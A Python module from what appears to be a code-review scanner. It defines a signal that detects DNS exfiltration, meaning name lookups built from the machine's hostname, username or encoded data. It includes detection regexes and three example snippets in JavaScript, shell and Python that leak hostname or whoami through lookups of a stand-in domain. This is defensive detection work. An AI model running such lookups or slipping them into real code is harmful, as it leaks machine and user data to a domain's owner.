"""Words sent away inside of names that are looked up."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, asked, in_files
from hunkwise.signals.tables.languages import CODE

_CALL = re.compile(
    r"(?P<sink>dns\.(?:lookup|resolve\w*|promises\.\w+)|socket\.gethostbyname|gethostbyname|getaddrinfo|resolver\.(?:query"
    r"|resolve)|dns\.resolver\.\w+|Resolve-DnsName|nslookup|\bdig\b|\bhost\b|\bping\b(?:\s+-[cn]\s*\d+)?)"
    r"\s*\(?\s*(?P<name>[^\n;]{0,200})"
)
_BUILT = re.compile(
    r"\$\{[^}]{1,80}\}\s*\.[\w-]|\+\s*[\"'`]\.[\w.-]+\.\w|f[\"'][^\"']{0,40}\{[^}]{1,80}\}\.[\w.-]+\.\w|%s\.[\w.-]+\.\w"
    r"|\$\(\s*[^)]{1,80}\)\.[\w.-]+\.\w|`[^`]{1,40}`\.[\w.-]+\.\w|\.format\("
)
_OWN = re.compile(
    r"(?i)hostname|whoami|getuser|username|userinfo|environ|process\.env|base64|b64|hex|b32|encode|chunk|data|passwd|token"
    r"|secret|payload|exfil|hostid"
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    told = asked(view)
    for found in _CALL.finditer(view.text):
        name = found["name"]
        built = _BUILT.search(name)
        own = _OWN.search(name)
        if built and own:
            strength = (
                0.9 if told & {"host", "user", "environment"} or re.search(r"(?i)hex|base|b64|b32|chunk|whoami|hostname", name) else 0.6
            )
            yield Sighting((view.line(found.start()),), {"sink": found["sink"], "source": own[0]}, strength=strength)
            return


_see = in_files(_look, "dns", "gethostbyname", "getaddrinfo", "resolve", "nslookup", "dig ", "host ", "ping ")


SIGNAL = Signal(
    id="dns-exfiltration",
    title="Data sent away inside of host names",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE | {"batch"},
    promise="Tells of name look-ups whose name is built from the machine's own data, encoded or cut into labels.",
    why="Look-ups pass nearly every firewall, and whoever owns the domain reads the names.",
    quiet="Look-ups of configured or fixed names.",
    remedy="Don't merge. Look at the resolver's log for what left.",
    cause="`{sink}` looks up a name built from `{source}`.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1048.003",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "javascript",
            'const dns = require("dns");\n'
            'const os = require("os");\n'
            'dns.lookup(`${Buffer.from(os.hostname()).toString("hex")}.a.example.org`, () => {});\n',
            line=3,
        ),
        Example("shell", "#!/bin/sh\nnslookup $(whoami).a.example.org\n", path="a.sh", line=2),
        Example("python", 'import socket, os\nsocket.gethostbyname(socket.gethostname() + ".a.example.org")\n', line=2),
    ),
    stays_quiet=(
        Example("javascript", 'const dns = require("dns");\ndns.lookup(config.host, done);\n'),
        Example("python", 'import socket\nsocket.gethostbyname("www." + domain)\n'),
    ),
)
